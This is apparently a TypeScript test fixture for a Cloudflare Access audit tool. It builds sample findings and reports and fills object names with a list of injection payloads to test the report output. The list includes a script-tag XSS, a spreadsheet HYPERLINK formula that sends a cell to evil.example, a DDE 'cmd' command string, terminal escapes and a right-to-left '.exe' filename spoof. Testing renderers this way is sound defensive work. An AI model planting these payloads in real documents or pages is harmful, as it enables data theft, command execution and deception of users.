import { type Applied, apply, type Baseline } from "../../src/audit/baseline.ts";
import { type Check, type Found, family, type Severity } from "../../src/audit/check.ts";
import { type Audit, audit } from "../../src/audit/engine.ts";
import type { Report } from "../../src/audit/report/report.ts";
import type { DatasetName, Inventory } from "../../src/inventory/datasets.ts";
import type { PrincipalKind, Principals, Reach } from "../../src/simulator/reach.ts";

/** Names that somebody could give to an object to get into a report, a spreadsheet, a terminal or a browser. */
export const hostileNames = {
  html: `<script>alert(1)</script><img src=x onerror="alert(2)">'">`,
  markdown:
    "](https://evil.example/) **bold** `code` | cell | # head\n\n# New heading\n- item <b>x</b> ![a](https://evil.example/a.png)",
  formula: `=HYPERLINK("https://evil.example/?"&A1,"open")`,
  quoted: `"\t+cmd|' /C calc'!A1;=1+1`,
  terminal: "\u001b[31mred\u001b[0m\u0007\u0000\u009b2J",
  bidi: "invoice\u202Egnp.exe\u2066\u2069\u2028x",
  broken: "half \uD800 and \uFFFE ]]> --> &amp; </pre>",
  fence: "``` ~~~ ```` $x$ ```",
} as const;

const at = Date.parse("2026-11-01T09:30:00Z");

/** A check whose findings are made by hand. */
const check = (
  id: string,
  severity: Severity,
  title: string,
  found: readonly Found[],
  reads: readonly DatasetName[] = ["applications"],
): Check => ({
  id,
  title,
  severity,
  why: `${title}: whoever finds the address can do more than the owner meant, and no log tells of it.`,
  reads,
  find: () => found,
  remedy: "Narrow the policy to the people who need it.",
  falsePositive: "The application is public on purpose.",
  source: id.startsWith("APP")
    ? "https://developers.cloudflare.com/cloudflare-one/access-controls/policies/"
    : "The description of access_policies in Cloudflare's API",
  flagged: [],
  clean: [],
});

const application = (id: string, name: string) => ({ noun: "application", id, name });
const policy = (id: string, name: string) => ({ noun: "policy", id, name });

const wiki = application("f174e90a-fafe-4643-bbbc-4a0ed4fc8415", "Quillon wiki");
const payroll = application("2f0c1de1-0cf5-43a3-9d64-8d7c6e2f7c11", "Payroll");

const hostile = Object.entries(hostileNames).map(
  ([kind, name]): Found => ({
    subject: application(`hostile-${kind}`, name),
    says: `the session of ${name} lasts 720h, 30 times what is usual`,
    field: `policies[0].${kind === "markdown" ? "a`b|c" : "session_duration"}`,
    value: name,
    related: [policy(`policy-${kind}`, name)],
    fix: {
      steps: [
        {
          operation: "update_application",
          arguments: { application_id: `hostile-${kind}`, name, session_duration: "24h" },
        },
      ],
      choose: { session_duration: `how long ${name} may last` },
    },
  }),
);

const checks = family(
  check("APP-01", "medium", "Application without a policy", []),
  check("APP-07", "medium", "Session longer than a working day", hostile),
  check("APP-09", "low", "Cookie that scripts can read", [
    { subject: wiki, says: "its cookie can be read by scripts", field: "http_only_cookie_attribute", value: false },
    { subject: payroll, says: "its cookie can be read by scripts", field: "http_only_cookie_attribute", value: false },
  ]),
  check("POL-01", "critical", "Bypass for everybody", [
    {
      subject: policy("9f1b7a52-6c02-4a0e-8f1e-0e7c0c7d9a01", "Temporary bypass"),
      says: "it lets the whole internet into 2 applications without login and without log",
      field: "include[0].everyone",
      value: {},
      related: [wiki, payroll],
      fix: {
        steps: [
          {
            operation: "update_policy",
            arguments: {
              policy_id: "9f1b7a52-6c02-4a0e-8f1e-0e7c0c7d9a01",
              decision: "allow",
              include: [{ email_domain: { domain: "quillon.example.com" } }],
            },
          },
        ],
        choose: { include: "who should get in instead" },
      },
    },
  ]),
  check("POL-02", "high", "Anyone who can log in is allowed", [
    {
      subject: policy("0b8e1d2c-1111-4222-8333-944455556666", "All staff"),
      says: "it includes everyone, and one-time PINs are offered to any address",
      field: "include[0]",
      value: { everyone: {} },
      related: [wiki],
    },
    {
      subject: policy("0b8e1d2c-1111-4222-8333-944455556667", "Contractors"),
      says: "it lets in everybody with an address at gmail.com",
      field: "include[2].email_domain.domain",
      value: "gmail.com",
      certain: false,
    },
  ]),
  check("GRP-01", "medium", "Group that nothing uses", [
    { subject: { noun: "group", id: "7a1c", name: "Old interns" }, says: "no policy and no other group refers to it" },
  ]),
  check("TOK-02", "high", "Service token about to expire", [
    {
      subject: { noun: "service token", id: "ab12", name: "ci-deploy" },
      says: "it ends in 6 days and 3 policies rely on it",
      field: "expires_at",
      value: "2026-11-07T00:00:00Z",
      fix: { steps: [{ operation: "refresh_service_token", arguments: { service_token_id: "ab12" } }] },
    },
  ]),
  check("USR-01", "medium", "Seat of somebody who does not come any more", [], ["users"]),
  check("USR-02", "high", "Session of somebody who may not get in any more", [], ["users", "user_sessions"]),
  check("MCP-03", "medium", "Portal that shows tools nobody reviewed", [], ["mcp_portals"]),
  check(
    "ORG-04",
    "info",
    "Login page without a name",
    [{ subject: { noun: "organization", id: "", name: "quillon" }, says: "its login page has no name", field: "name" }],
    ["organization"],
  ),
);

const inventory: Inventory = {
  organization: { state: "ok", items: [{ name: "quillon" }] },
  applications: { state: "ok", items: [{ id: wiki.id }, { id: payroll.id }] },
  policies: { state: "ok", items: [] },
  users: { state: "forbidden", items: [], why: 'the API token lacks the permission "Access: Users Read <b>|*"' },
  user_sessions: {
    state: "partial",
    items: [],
    why: "only the sessions of some users were read",
    sample: { read: 300, of: 2120 },
  },
  mcp_portals: { state: "not_enabled", items: [], why: "Cloudflare says that it is not enabled for this account" },
};

const way = (kind: PrincipalKind, label: string, more: Partial<Principals> = {}): Principals => ({
  kind,
  label,
  outcome: "allowed",
  policy: policy("p1", "All staff"),
  field: "include[0]",
  through: [],
  conditions: [],
  ...more,
});

const reach: readonly Reach[] = [
  {
    application: { ...wiki, type: "self_hosted", addresses: ["wiki.quillon.example.com"] },
    principals: [
      way("internet", "anyone", { outcome: "bypassed", policy: policy("p2", "Temporary bypass") }),
      way("email_domain", "@quillon.example.com", { conditions: ["country NL"] }),
      way("identity_group", 'Okta group "platform"', { through: [{ noun: "group", id: "g1", name: "Engineering" }] }),
    ],
    unknown: [],
  },
  {
    application: { ...payroll, type: "self_hosted", addresses: ["pay.quillon.example.com/hr"] },
    principals: [
      way("email", "ada@quillon.example.com"),
      way("email", "grace@quillon.example.com"),
      way("service_token", 'token "ci-deploy"', { outcome: "service_auth", conditions: ["network 10.0.0.0/8"] }),
    ],
    unknown: ["the list of approvers could not be read"],
  },
  ...Object.entries(hostileNames).map(
    ([kind, name]): Reach => ({
      application: { ...application(`hostile-${kind}`, name), type: "self_hosted", addresses: [name] },
      principals: [way("email", name, { conditions: [name], policy: policy("p3", name) })],
      unknown: [name],
    }),
  ),
  { application: { ...application("none", "Nobody's"), type: "saas", addresses: [] }, principals: [], unknown: [] },
];

/** An audit of an account with something of everything, hostile names too; made by the real engine from hand-made checks. */
export const sampleAudit = (): Audit =>
  audit(checks, inventory, { account_id: "a0b1c2d3e4f5061728394a5b6c7d8e9f", now: at });

/** One finding accepted, one acceptance that ran out, one of a check that there is not. */
export function sampleBaseline(): Baseline {
  const [, , third] = sampleAudit().findings;
  const cookie = sampleAudit().findings.find(({ check: { id } }) => id === "APP-09");
  return {
    accepted: [
      {
        id: cookie?.id ?? "",
        reason: `The wiki's editor needs it ${hostileNames.html}`,
        expires: "2027-01-31",
        by: "Grace <grace@quillon.example.com>",
      },
      { id: third?.id ?? "", reason: "Until the contractors have left", expires: "2026-10-31" },
      { id: "POL-99:0123456789ab", reason: "Typed by hand", expires: "2027-01-31" },
    ],
  };
}

/** A report with something of everything. */
export function sampleReport(applied: Applied = apply(sampleAudit(), sampleBaseline(), at)): Report {
  return { title: "Quillon <Instruments> & Co.", version: "0.1.0", ...applied, reach };
}

/** A report about an account with nothing wrong, of which everything was read. */
export function cleanReport(): Report {
  const clean = audit(
    [check("APP-01", "medium", "Application without a policy", [])],
    { applications: { state: "ok", items: [] } },
    { account_id: "a0", now: at },
  );
  return { title: "Quillon", version: "0.1.0", audit: clean, accepted: [], remarks: [], reach: [] };
}

/** Three hundred findings in an account where every name is a piece of text, over and over. */
export function longReport(piece: string): Report {
  const name = piece.repeat(400);
  const found = Array.from(
    { length: 300 },
    (_, place): Found => ({ subject: application(`${place}`, name), says: name, field: name, value: name }),
  );
  const long = audit(
    [check("APP-01", "high", "Application without a policy", found)],
    { ...inventory, users: { state: "failed", items: [], why: name } },
    { account_id: name, now: at },
  );
  return { ...sampleReport(), title: name, audit: long, accepted: [], remarks: [name] };
}

/** A report with one finding, about an object of any name. */
export function namedReport(name: string): Report {
  const found: Found = {
    subject: application("1", name),
    says: name,
    field: name,
    value: name,
    fix: { steps: [{ operation: "update_application", arguments: { name } }] },
  };
  const one = audit(
    [check("APP-01", "high", "Application without a policy", [found])],
    { applications: { state: "partial", items: [], why: name } },
    { account_id: name, now: at },
  );
  const inside: Reach = {
    application: { ...application("1", name), type: name, addresses: [name] },
    principals: [way("email", name)],
    unknown: [name],
  };
  return { title: name, version: "0.1.0", audit: one, accepted: [], remarks: [], reach: [inside] };
}
